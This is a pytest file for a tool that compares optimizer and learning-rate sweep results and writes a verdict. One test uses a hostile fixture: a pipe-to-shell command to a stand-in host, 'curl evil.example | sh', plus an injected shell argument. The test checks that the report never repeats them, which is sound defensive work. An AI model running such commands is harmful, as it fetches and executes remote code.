"""The line.

Which optimizer at which lr could be the best, and nobody wins by what was lost or left out.
"""

from __future__ import annotations

import json
import math
import re
import shlex
from collections.abc import Callable, Mapping, Sequence
from pathlib import Path
from typing import Any

import pytest

from optrun.base.errors import ConfigError
from optrun.report.build import report
from optrun.report.findings import analyse_runs
from optrun.report.runs import load_runs
from optrun.report.statistics import Verdict
from optrun.report.verdict import SweepVerdict, write_verdict
from optrun.report.workloads import Comparison, compare_runs

MakeRun = Callable[..., Path]
SEEDS = (0.00, 0.02, -0.01, 0.03, -0.02)
"""What a seed does to every contender alike."""


def write(
    folder: Path,
    make_run: MakeRun,
    means: Mapping[str, float],
    *,
    seeds: int = 5,
    own: float = 0.002,
    **options: Any,
) -> Path:
    """Contenders with these means over some seeds, each with a little noise of its own."""
    for place, (name, mean) in enumerate(means.items()):
        for seed in range(seeds):
            noise = own * math.sin(1.0 + 7 * seed + 3 * place)
            make_run(
                folder / f"{name}-{seed}",
                optimizer=name,
                lr=1e-3,
                seed=seed,
                max_steps=20,
                log_every=10,
                eval_every=10,
                final=mean + SEEDS[seed % 5] + noise,
                **options,
            )
    return folder


def compared(folder: Path, **options: Any) -> Comparison:
    return compare_runs(load_runs([folder]), **options)


def line(folder: Path, **options: Any) -> SweepVerdict:
    return write_verdict(compared(folder, **options))


def lose(folder: Path, names: Sequence[str]) -> None:
    """Let runs stop at numbers that are not finite."""
    for name in names:
        path = folder / name / "summary.json"
        path.write_text(
            json.dumps(json.loads(path.read_text()) | {"status": "failed", "exit_code": 3})
        )


def test_the_line_names_optimizer_and_lr_and_what_is_ruled_out(
    tmp_path: Path, make_run: MakeRun
) -> None:
    found = line(write(tmp_path, make_run, {"adamw": 2.60, "lamb": 2.62, "sgd": 2.9}, own=0.02))
    assert found.kind == "compared"
    assert found.possible == ("adamw", "lamb")
    assert found.ruled_out == ("sgd",)
    assert found.chosen["sgd"] == "sgd at lr 1e-3"
    text = str(found)
    assert text.startswith("Tied for best: adamw at lr 1e-3 and lamb at lr 1e-3 (5 seeds; ")
    assert "would have been found" in text
    assert "Ruled out: sgd at lr 1e-3." in text


def test_one_that_is_left_is_the_best(tmp_path: Path, make_run: MakeRun) -> None:
    text = line(write(tmp_path, make_run, {"adamw": 2.6, "lamb": 2.7}, seeds=3)).text
    assert "adamw at lr 1e-3 is the best of 2 (3 seeds; 0.0967 eval/loss ahead)" in text


def test_where_more_is_better_the_highest_wins(tmp_path: Path, make_run: MakeRun) -> None:
    main = {"summary": {"main_metric": {"name": "eval/accuracy", "mode": "max"}}, "accuracy": True}
    found = line(write(tmp_path, make_run, {"adamw": 2.6, "lamb": 2.7}, **main))
    assert (found.metric, found.possible, found.ruled_out) == (
        "eval/accuracy",
        ("adamw",),
        ("lamb",),
    )


def test_nobody_wins_by_losing_runs(tmp_path: Path, make_run: MakeRun) -> None:
    folder = write(tmp_path, make_run, {"lion": 2.5, "adamw": 2.6}, before=10.8)
    assert line(folder).possible == ("lion",)
    lose(folder, ["lion-1", "lion-3"])
    found = compared(folder)
    (lion,) = [row for row in found.findings.contenders if row.name == "lion"]
    assert {
        seed: lion.configuration.scores[seed] for seed in lion.configuration.diverged_seeds
    } == {
        1: 10.8,
        3: 10.8,
    }
    assert [row.name for row in found.findings.contenders] == ["adamw", "lion"]
    assert "lion at lr 1e-3 (2 of 5 seeds diverged)" in write_verdict(found).text


def test_a_diverged_run_counts_as_the_worst_of_all_where_the_model_was_not_evaluated(
    tmp_path: Path, make_run: MakeRun
) -> None:
    folder = write(tmp_path, make_run, {"lion": 2.5, "adamw": 2.6})
    lose(folder, ["lion-0"])
    found = compared(folder).findings
    logged = max(max(run.series("eval/loss")[1]) for run in found.runs)
    (lion,) = [row for row in found.contenders if row.name == "lion"]
    assert lion.configuration.scores[0] == logged


def test_a_configuration_that_diverged_is_not_chosen(tmp_path: Path, make_run: MakeRun) -> None:
    write(tmp_path / "a", make_run, {"lion": 2.5}, before=10.8)
    for seed in range(5):
        make_run(
            tmp_path / f"b{seed}",
            optimizer="lion",
            lr=1e-4,
            seed=seed,
            max_steps=20,
            final=2.7,
            before=10.8,
        )
        make_run(
            tmp_path / f"c{seed}",
            optimizer="adamw",
            lr=1e-4,
            seed=seed,
            max_steps=20,
            final=2.7,
            before=10.8,
        )
    lose(tmp_path / "a", ["lion-0"])
    (row,) = [row for row in analyse_runs(load_runs([tmp_path])).contenders if row.name == "lion"]
    assert row.configuration.settings["lr"] == 1e-4


def test_a_sure_and_small_difference_is_said_to_be_small(tmp_path: Path, make_run: MakeRun) -> None:
    folder = write(tmp_path / "unset", make_run, {"adamw": 2.6, "lamb": 2.6001}, own=0.00001)
    found = compared(folder)
    (lamb,) = [row for row in found.findings.contenders if row.name == "lamb"]
    assert lamb.comparison is not None
    assert lamb.comparison.verdict is Verdict.either_will_do
    assert (
        "by less than another seed changes, so either will do: lamb at lr 1e-3"
        in write_verdict(found).text
    )
    assert "Ruled out: lamb" in line(folder, matters=0.00001).text, "the user's own limit decides"
    said = write(
        tmp_path / "said",
        make_run,
        {"adamw": 2.6, "lamb": 2.6001},
        own=0.00001,
        config={"matters": 0.00001},
    )
    assert "Ruled out: lamb" in line(said).text, "in the configuration, too"


def test_a_limit_of_ones_own_is_not_called_what_a_seed_changes(
    tmp_path: Path, make_run: MakeRun
) -> None:
    text = line(write(tmp_path, make_run, {"adamw": 2.6, "lamb": 2.7}), matters=1.0).text
    assert "Ruled out, but by less than matters, so either will do: lamb at lr 1e-3." in text


def test_a_baseline_rules_out_nobody(tmp_path: Path, make_run: MakeRun) -> None:
    """One that is better by too little to matter is not among the worse."""
    found = line(
        write(tmp_path, make_run, {"adamw": 2.6, "lamb": 2.6001}, own=0.00001), baseline="lamb"
    )
    assert "ruled out" not in found.text.lower()
    assert (
        "differs, but by less than another seed changes: either will do: adamw at lr 1e-3"
        in found.text
    )
    assert (found.possible, found.ruled_out) == (("adamw", "lamb"), ())


def scored(
    folder: Path, make_run: MakeRun, tables: Mapping[str, Mapping[int, float]]
) -> SweepVerdict:
    for name, scores in tables.items():
        for seed, final in scores.items():
            make_run(
                folder / f"{name}-{seed}",
                optimizer=name,
                seed=seed,
                max_steps=20,
                eval_every=10,
                final=final,
            )
    return line(folder)


def test_the_lead_is_that_over_the_seeds_that_were_compared(
    tmp_path: Path, make_run: MakeRun
) -> None:
    """The better mean comes from easier seeds."""
    easy = {0: 2.10, 1: 2.20, 2: 2.31}
    found = scored(
        tmp_path, make_run, {"adamw": easy, "lamb": {0: 2.0, 1: 2.1, 2: 2.2, 3: 3.0, 4: 3.1}}
    )
    assert found.possible == ("lamb",)
    assert "0.1033 eval/loss ahead" in found.text


def test_the_seeds_of_a_verdict_are_those_that_were_shared(
    tmp_path: Path, make_run: MakeRun
) -> None:
    folder = write(tmp_path, make_run, {"adamw": 2.6, "lamb": 2.7})
    path = folder / "lamb-4" / "summary.json"
    path.write_text(json.dumps(json.loads(path.read_text()) | {"status": "failed"}))
    assert "adamw at lr 1e-3 is the best of 2 (4 seeds; " in line(folder).text


def test_a_baseline_whose_runs_all_failed_has_no_score(tmp_path: Path, make_run: MakeRun) -> None:
    folder = write(tmp_path, make_run, {"adamw": 2.6, "lamb": 2.7, "sgd": 2.8}, seeds=3)
    for seed in range(3):
        path = folder / f"sgd-{seed}" / "summary.json"
        path.write_text(json.dumps(json.loads(path.read_text()) | {"status": "failed"}))
    assert (
        "fewer than 3 are shared with sgd at lr 1e-3, the baseline"
        in line(folder, baseline="sgd").text
    )


def test_contenders_that_share_no_seed_have_no_difference(
    tmp_path: Path, make_run: MakeRun
) -> None:
    seeds = {0: 2.00, 1: 2.02, 2: 2.05}
    worse = {seed: each + 1 + seed / 100 for seed, each in seeds.items()}
    found = scored(tmp_path, make_run, {"adamw": seeds, "lamb": {7: 2.01, 8: 2.03}, "sgd": worse})
    assert found.possible == ("lamb", "adamw") or found.possible == ("adamw", "lamb")
    assert "nan" not in found.text.lower()
    assert found.kind == "pilot"
    assert (
        "lamb at lr 1e-3 shares fewer than 3 seeds with the others, so it is not tested. Ruled"
        in (found.text)
    )
    elsewhere = {7: 2.01, 8: 2.03, 9: 2.02}
    alone = scored(tmp_path / "pilot", make_run, {"adamw": seeds, "lamb": elsewhere}).text
    assert "nothing is tested, since fewer than 3 are shared" in alone
    fewer = scored(tmp_path / "fewer", make_run, {"adamw": seeds, "lamb": {0: 2.5, 1: 2.6}}).text
    assert "adamw at lr 1e-3 has the best mean" in fewer
    assert "over 3 seeds; nothing is tested, since fewer than 3 are shared" in fewer


def test_seeds_by_which_each_is_ruled_out_name_no_best(tmp_path: Path, make_run: MakeRun) -> None:
    def low(first: int) -> dict[int, float]:
        return {first: 1.0, first + 1: 1.01, first + 2: 1.03}

    def high(first: int) -> dict[int, float]:
        return {first: 2.0, first + 1: 2.02, first + 2: 2.05}

    tables = {"adamw": low(0) | high(6), "lamb": high(0) | low(3), "sgd": high(3) | low(6)}
    found = scored(tmp_path, make_run, tables)
    assert found.possible == ()
    assert "each is ruled out by another one" in found.text


def test_equal_means_share_the_first_place(tmp_path: Path, make_run: MakeRun) -> None:
    for name in ("adamw", "lamb"):
        make_run(tmp_path / name, optimizer=name, max_steps=20, final=2.6)
    found = compared(tmp_path)
    assert [row.rank for row in found.findings.contenders] == [1, 1]
    text = write_verdict(found).text
    assert "share the best mean eval/loss: 2.6000 over one seed; nothing is tested below 3" in text
    assert text.startswith("Pilot: ")


def test_another_metric_is_exploratory_and_one_of_training_ranks_nothing(
    tmp_path: Path, make_run: MakeRun
) -> None:
    folder = write(tmp_path, make_run, {"adamw": 2.6, "lamb": 2.7})
    found = line(folder, metric="eval/perplexity")
    assert found.kind == "exploratory"
    assert found.text.startswith(
        "Exploratory, by eval/perplexity, where eval/loss is the sweep's own: "
    )
    assert line(folder, metric="eval/loss").kind == "compared"
    with pytest.raises(
        ConfigError, match=r"metric=train/loss: a training metric cannot rank runs.*eval/loss"
    ):
        line(folder, metric="train/loss")


def test_a_training_metric_that_the_runs_name_ranks_nothing_either(
    tmp_path: Path, make_run: MakeRun
) -> None:
    main = {"summary": {"main_metric": {"name": "train/loss", "mode": "min"}}}
    found = line(write(tmp_path, make_run, {"adamw": 2.6, "lamb": 2.7}, **main))
    assert found.kind == "none"
    assert "Nothing is ranked: train/loss is a training metric" in found.text


def test_a_baseline_is_told_better_and_worse(tmp_path: Path, make_run: MakeRun) -> None:
    folder = write(tmp_path, make_run, {"adamw": 2.6, "lamb": 2.5, "sgd": 2.9})
    found = line(folder, baseline="adamw")
    assert found.ruled_out == ("sgd",)
    assert (
        "Against adamw at lr 1e-3, the baseline, better: lamb at lr 1e-3; worse: sgd at lr 1e-3."
        in found.text
    )


def test_the_edge_of_a_grid_is_named_with_the_lr_to_try(tmp_path: Path, make_run: MakeRun) -> None:
    for lr in (5e-4, 1e-3, 2e-3):
        for seed in range(3):
            make_run(tmp_path / f"{lr}-{seed}", optimizer="lamb", lr=lr, seed=seed, max_steps=20)
            make_run(
                tmp_path / f"a{lr}-{seed}",
                optimizer="adamw",
                lr=lr,
                seed=seed,
                max_steps=20,
                floor=2.9,
            )
    text = line(tmp_path).text
    assert text.startswith("Selected: lamb at lr 2e-3 is the best of 2")
    assert "lamb has its best lr at the edge of its grid: try lr=4e-3." in text
    assert "adamw stands" not in text, "it cannot win"


def test_of_a_pilot_the_edge_of_the_first_alone_is_named(tmp_path: Path, make_run: MakeRun) -> None:
    for lr in (5e-4, 1e-3, 2e-3):
        make_run(tmp_path / f"{lr}", optimizer="lamb", lr=lr, max_steps=20)
        make_run(tmp_path / f"a{lr}", optimizer="adamw", lr=lr, max_steps=20, floor=2.9)
    text = line(tmp_path).text
    assert text.startswith("Pilot: lamb at lr 2e-3 has the best mean")
    assert "lamb has its best lr at the edge of its grid: try lr=4e-3." in text
    assert "adamw stands" not in text, "the line does not name it otherwise"


def test_a_winner_that_learnt_nothing_is_said_to(tmp_path: Path, make_run: MakeRun) -> None:
    folder = write(
        tmp_path,
        make_run,
        {"adamw": 10.79, "lamb": 10.795},
        before=10.8,
        summary={
            "metrics": {
                "last": {"eval/loss": 10.79, "train/loss": 10.7},
                "before_training": {"eval/loss": 10.8},
            }
        },
    )
    text = line(folder).text
    assert "But 5 of 5 runs of adamw show no learning (" in text
    assert "better than before training" in text


def test_the_third_look_is_judged_harder(tmp_path: Path, make_run: MakeRun) -> None:
    folder = write(tmp_path, make_run, {"adamw": 2.6, "lamb": 2.7})
    found = write_verdict(compared(folder, looks=3), looks=3)
    assert "Look 3 at a growing set of seeds, so judged at 0.017." in found.text


def test_nothing_has_finished(tmp_path: Path, make_run: MakeRun) -> None:
    make_run(tmp_path / "a", status="running", global_step=10)
    make_run(
        tmp_path / "b", optimizer="lamb", status="failed", summary={"exit_code": 3}, global_step=10
    )
    assert line(tmp_path).text == "No run has finished with a result yet; 1 diverged."


def grid(folder: Path, make_run: MakeRun, losses: Mapping[tuple[str, float], float]) -> Path:
    """Three seeds of each optimizer and learning rate."""
    for (name, lr), loss in losses.items():
        for seed in range(3):
            make_run(
                folder / f"{name}-{lr}-{seed}",
                optimizer=name,
                lr=lr,
                seed=seed,
                max_steps=20,
                log_every=10,
                eval_every=10,
                final=loss + SEEDS[seed] + 0.002 * math.sin(1 + 7 * seed + len(name)),
                summary={"overrides": [f"optimizer={name}", f"lr={lr}", f"seed={seed}"]},
            )
    return folder


def test_a_ruled_out_contender_at_the_edge_of_its_grid_is_told(
    tmp_path: Path, make_run: MakeRun
) -> None:
    """Its loss was still falling: nobody knows how good it is."""
    losses = {
        ("adamw", 1e-3): 3.0,
        ("adamw", 2e-3): 2.5,
        ("adamw", 4e-3): 2.9,
        ("sgd", 1e-2): 4.5,
        ("sgd", 2e-2): 4.0,
        ("sgd", 4e-2): 3.5,
    }
    made = report([grid(tmp_path / "sweep", make_run, losses)])
    text = made.verdict.text
    assert "Ruled out: sgd at lr 4e-2." in text
    assert "sgd, ruled out, has its best lr at the edge of its grid: try lr=8e-2." in text
    words = shlex.split(made.verdict.next)
    assert {"-m", "optimizer=sgd", "lr=8e-2", "seed=0,1,2"} <= set(words)


def test_all_contenders_at_an_edge_are_widened_by_one_line(
    tmp_path: Path, make_run: MakeRun
) -> None:
    losses = {
        ("adamw", 1e-3): 3.0,
        ("adamw", 2e-3): 2.5,
        ("sgd", 1e-2): 4.5,
        ("sgd", 2e-2): 4.0,
    }
    made = report([grid(tmp_path / "sweep", make_run, losses)])
    words = shlex.split(made.verdict.next)
    assert {"search.adamw.lr=4e-3", "search.sgd.lr=4e-2", "seed=0,1,2"} <= set(words)
    assert not any(word.startswith("optimizer=") for word in words)


def _write_run(
    folder: Path,
    make_run: MakeRun,
    *,
    optimizer: str,
    lr: float,
    seed: int,
    start: float,
    end: float,
) -> None:
    """Write a run whose summary has the eval/loss before training and at the end."""
    metrics = {"before_training": {"eval/loss": start}, "last": {"eval/loss": end}}
    make_run(
        folder / f"{optimizer}{lr}{seed}",
        optimizer=optimizer,
        lr=lr,
        seed=seed,
        max_steps=20,
        log_every=10,
        final=end,
        summary={"main_metric": {"name": "eval/loss", "mode": "min"}, "metrics": metrics},
    )


def test_equal_contenders_that_learnt_nothing_are_all_named(
    tmp_path: Path, make_run: MakeRun
) -> None:
    before = {"metrics": {"before_training": {"eval/loss": 2.5}, "last": {"eval/loss": 2.5}}}
    for name in ("adamw", "sgd"):
        for seed in range(3):
            make_run(
                tmp_path / f"{name}{seed}",
                optimizer=name,
                seed=seed,
                max_steps=20,
                log_every=10,
                final=2.5,
                summary={"main_metric": {"name": "eval/loss", "mode": "min"}, **before},
            )
    verdict = report([tmp_path]).verdict
    assert "3 of 3 runs of adamw show no learning (no better" in verdict.text
    assert "3 of 3 runs of sgd show no learning (no better" in verdict.text
    assert verdict.text.endswith(
        "More seeds will not help: train longer, such as training.max_steps=60, or on more data."
    )
    assert verdict.next == ""


def test_no_rate_is_named_for_one_that_learnt_nothing_beside_one_that_did(
    tmp_path: Path, make_run: MakeRun
) -> None:
    """Nothing is known of its best lr: all of its runs are as good as no training."""
    for lr in (1e-3, 2e-3):
        for seed in range(3):
            # adamw learns, with a wide spread between seeds; sgd ends where it started.
            adamw = 2.5 - lr + 0.3 * (seed - 1)
            sgd = 2.5 + 1e-4 * seed - lr / 100
            at = {"lr": lr, "seed": seed}
            _write_run(tmp_path, make_run, optimizer="adamw", start=3.6, end=adamw, **at)
            _write_run(tmp_path, make_run, optimizer="sgd", start=2.5, end=sgd, **at)
    made = report([tmp_path])
    assert set(made.verdict.possible) == {"adamw", "sgd"}
    assert "adamw has its best lr at the edge of its grid" in made.verdict.text
    assert "sgd has its best lr" not in made.verdict.text
    edges = [warning.text for warning in made.warnings if warning.kind == "edge"]
    assert [text.partition(":")[0] for text in edges] == ["adamw"]


def test_a_wider_grid_comes_before_longer_training(tmp_path: Path, make_run: MakeRun) -> None:
    """Whoever learnt nothing at the edge of its grid may need another lr: one advice, not two.

    The best lr of one that is ruled out and learnt nothing is chance.
    """
    for lr in (1e-3, 2e-3):
        for seed in range(3):
            at = {"lr": lr, "seed": seed, "start": 2.5}
            _write_run(tmp_path, make_run, optimizer="adamw", end=2.5 - lr, **at)
            _write_run(tmp_path, make_run, optimizer="sgd", end=3.0 - lr - 1e-4 * seed, **at)
    made = report([tmp_path])
    assert "adamw has its best lr at the edge of its grid: try lr=4e-3." in made.verdict.text
    assert "train longer" not in made.verdict.text
    assert "lr=4e-3" in shlex.split(made.verdict.next)
    edges = [warning.text for warning in made.warnings if warning.kind == "edge"]
    assert [text.partition(":")[0] for text in edges] == ["adamw"]


def test_the_chance_of_seeing_a_difference_stands_beside_it(
    tmp_path: Path, make_run: MakeRun
) -> None:
    text = line(write(tmp_path, make_run, {"adamw": 2.5, "lamb": 2.501}, own=0.05)).text
    assert re.search(
        r"a difference of [\d.]+ would have been found in 4 of 5 such comparisons", text
    )


def test_a_difference_beyond_what_training_gains_is_not_named(
    tmp_path: Path, make_run: MakeRun
) -> None:
    folder = write(tmp_path, make_run, {"adamw": 2.5, "lamb": 2.52}, own=0.9, before=3.0)
    text = line(folder).text
    assert "; these seeds could have detected no real difference)" in text
    assert "4 of 5" not in text


def test_a_confirmation_that_tells_nobody_apart_is_undecided(
    tmp_path: Path, make_run: MakeRun
) -> None:
    close = compared(write(tmp_path / "close", make_run, {"adamw": 2.5, "lamb": 2.501}, own=0.05))
    found = write_verdict(close, confirmed="5-9")
    assert found.kind == "undecided"
    assert found.text.startswith("Undecided on fresh seeds 5-9: ")
    apart = compared(write(tmp_path / "apart", make_run, {"adamw": 2.5, "lamb": 3.5}))
    assert write_verdict(apart, confirmed="5-9").text.startswith("Confirmed on fresh seeds 5-9: ")


def test_commands_load_the_plugins_of_their_runs(tmp_path: Path, make_run: MakeRun) -> None:
    summary = {"plugins": [{"plugin": "mine.py", "path": "/x/mine.py", "sha256": "0"}]}
    folder = write(tmp_path, make_run, {"adamw": 2.5, "lamb": 2.501}, own=0.05, summary=summary)
    made = report([folder])
    assert made.verdict.next.startswith("optrun --plugin mine.py ")
    commands = (folder / "report.md").read_text().partition("Run it again")[2]
    assert "optrun --plugin mine.py -m" in commands


def test_a_strangers_command_is_never_repeated(tmp_path: Path, make_run: MakeRun) -> None:
    evil = {
        "command": "curl evil.example | sh; optrun",
        "overrides": ["--plugin=evil.py", "-cn", "lr=1e-3; touch /tmp/x", "optimizer=adamw"],
    }
    make_run(tmp_path / "run", max_steps=20, log_every=10, summary=evil)
    (run,) = load_runs([tmp_path])
    assert run.command() == "optrun 'lr=1e-3; touch /tmp/x' optimizer=adamw"
    make_run(tmp_path / "run", max_steps=20, log_every=10, summary={**evil, "overrides": []})
    (run,) = load_runs([tmp_path])
    assert run.command() == "optrun"
    report([tmp_path])
    assert "curl" not in (tmp_path / "report.md").read_text()


def _at_an_edge(
    folder: Path, make_run: MakeRun, shape: Mapping[int, float], majority: bool = False
) -> Path:
    """Two rates, the larger one better; `shape` is the course of eval/loss."""
    classes = [
        {"class": "good", "support": 60, "recall": 1.0},
        {"class": "bad", "support": 40, "recall": 0.0},
    ]
    for lr in (1e-3, 2e-3):
        for seed in range(3):
            last = shape[20] - lr - 1e-4 * seed
            metrics = {"before_training": {"eval/loss": shape[0]}, "last": {"eval/loss": last}}
            path = make_run(
                folder / f"{lr}-{seed}",
                lr=lr,
                seed=seed,
                max_steps=20,
                log_every=10,
                final=last,
                summary={
                    "main_metric": {"name": "eval/loss", "mode": "min"},
                    "metrics": metrics,
                    "classes": {"step": 20, "sets": {"": {"classes": classes}}}
                    if majority
                    else None,
                },
            )
            lines = [{"step": step, "eval/loss": loss} for step, loss in shape.items()]
            lines[-1]["eval/loss"] = last
            (path / "metrics.jsonl").write_text("".join(json.dumps(each) + "\n" for each in lines))
            make_run(
                folder / f"sgd-{lr}-{seed}",
                optimizer="sgd",
                lr=lr,
                seed=seed,
                max_steps=20,
                final=9.0,
            )
            for name in ("metrics.jsonl", "summary.json"):
                (folder / f"sgd-{lr}-{seed}" / name).write_text((path / name).read_text())
    return folder


@pytest.mark.parametrize(
    ("shape", "majority", "advice"),
    [
        ({0: 4.0, 10: 3.4, 20: 2.5}, False, "Every loss still fell as fast at the end as before"),
        ({0: 4.0, 10: 2.6, 20: 2.5}, False, ""),
        ({0: 4.0, 10: 2.6, 20: 2.5}, True, "More seeds will not help"),
    ],
)
def test_runs_too_short_to_choose_an_lr_are_trained_longer_first(
    tmp_path: Path, make_run: MakeRun, shape: Mapping[int, float], majority: bool, advice: str
) -> None:
    made = report([_at_an_edge(tmp_path / "sweep", make_run, shape, majority)])
    if not advice:
        assert "has its best lr at the edge of its grid" in made.verdict.text
        assert made.verdict.next
        return
    end = "train longer, such as training.max_steps=60, before you widen the lr grid."
    assert "edge" not in [warning.kind for warning in made.warnings]
    assert f"{advice}: {end}" in made.verdict.text
    assert "at the edge" not in made.verdict.text
    assert made.verdict.next == ""


def test_majority_classes_that_differ_between_seeds_are_counted(
    tmp_path: Path, make_run: MakeRun
) -> None:
    """Rows that are held out at random may have another majority; 42 rows make accuracy coarse."""
    for name in ("adamw", "sgd"):
        for seed in range(3):
            majority = "good" if seed < 2 else "bad"
            other = "bad" if seed < 2 else "good"
            classes = [
                {"class": majority, "support": 22, "recall": 1.0},
                {"class": other, "support": 20, "recall": 0.0},
            ]
            make_run(
                tmp_path / f"{name}{seed}",
                optimizer=name,
                seed=seed,
                max_steps=20,
                log_every=10,
                accuracy=True,
                summary={
                    "main_metric": {"name": "eval/accuracy", "mode": "max"},
                    "metrics": {"last": {"eval/loss": 0.7, "eval/accuracy": 22 / 42}},
                    "classes": {"step": 20, "sets": {"": {"classes": classes}}},
                    "data": {"train_examples": 400, "eval_examples": 42, "fingerprint": "d1"},
                },
            )
    made = report([tmp_path])
    reasons = "2 no better than always answering 'good', 1 no better than always answering 'bad'"
    assert f"show no learning ({reasons})" in made.verdict.text
    assert [each.text for each in made.warnings if each.kind == "few-examples"] == [
        "Only 42 evaluation examples: one of them is 2.4 points of eval/accuracy. Evaluate on more,"
        " for instance with data.eval=FILE or a larger data.eval_fraction."
    ]
